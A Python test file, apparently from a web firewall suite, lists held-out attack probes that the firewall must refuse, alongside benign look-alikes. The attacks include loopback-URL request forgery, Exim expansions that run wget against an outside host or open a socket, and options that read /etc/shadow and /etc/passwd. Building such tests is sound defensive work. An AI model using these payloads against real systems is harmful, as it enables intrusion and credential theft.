"""WAF, part 2z4: held-out probes, twenty-seventh file (README: the
thirty-fourth round), written for this file on 2026-12-05 for the classes
the weak list of the thirty-third round named, before the banking,
nonprofit, music and surveillance corpora were first replayed. No string
is taken from a corpus or a public list: each class is written here in
shapes of our own, through the real edge (shipped config, bans off).

Look-alikes that must pass:
- any-scheme-loopback: connection strings to a public host or to the
  cluster's own names;
- exim-expansion: a shell variable and a template's placeholder;
- glued-option: a compiler's include and library options.

Attacks that must be refused:
- any-scheme-loopback: the whole value a URL of any scheme with "//" at
  the machine itself (loopback, link-local, metadata);
- exim-expansion: Exim's string expansion that runs or reads ("${run{",
  "${readfile{", "${readsocket{");
- glued-option: an account file glued to a short option ("-C/etc/...").

Measured on b8bad2f (before the changes): every attack passed, every
look-alike passed.

Each attack is sent as a query value (URL-encoded once, and once more:
the edge decodes repeatedly) and as a JSON body field; each look-alike
must pass in the same placements. A probe the edge gets wrong is listed
in KNOWN_MISSES or KNOWN_FALSE_POSITIVES with the reason, and runs as a
strict xfail."""

from wafkit import heldout_probe_tests, session, waf_config  # noqa: F401

CONF = waf_config()

ATTACKS = {
    "any-scheme-loopback": ["couchdb://admin@127.0.0.1:5984/_users",
                            "zmq+tcp://localhost:5557", "xmpp://[::1]:5222/"],
    "exim-expansion": ["ops@mail.example ${run{/usr/bin/wget -q 198.51.100.8/x}}",
                       "${readsocket{inet:127.0.0.1:25}{EHLO x\\n}}"],
    "glued-option": ["-F/etc/shadow", "report.csv -T/etc/passwd"],
}

BENIGN = {
    "any-scheme-loopback": ["couchdb://admin@couch.example.org:5984/_users",
                            "zmq+tcp://ingest.internal:5557"],
    "exim-expansion": ["deploy to ${HOME}/apps/{staging,prod}",
                       "Dear ${first_name}, your order ${order.id} shipped"],
    "glued-option": ["cc -I/usr/include/libpng -L/usr/lib -lpng img.c"],
}

KNOWN_MISSES = {}
KNOWN_FALSE_POSITIVES = {}

(edge, test_tables_are_balanced, test_heldout_r27_attack_refused_everywhere,
 test_heldout_r27_benign_passes) = heldout_probe_tests(
    "r27", CONF, ATTACKS, BENIGN, KNOWN_MISSES, KNOWN_FALSE_POSITIVES)
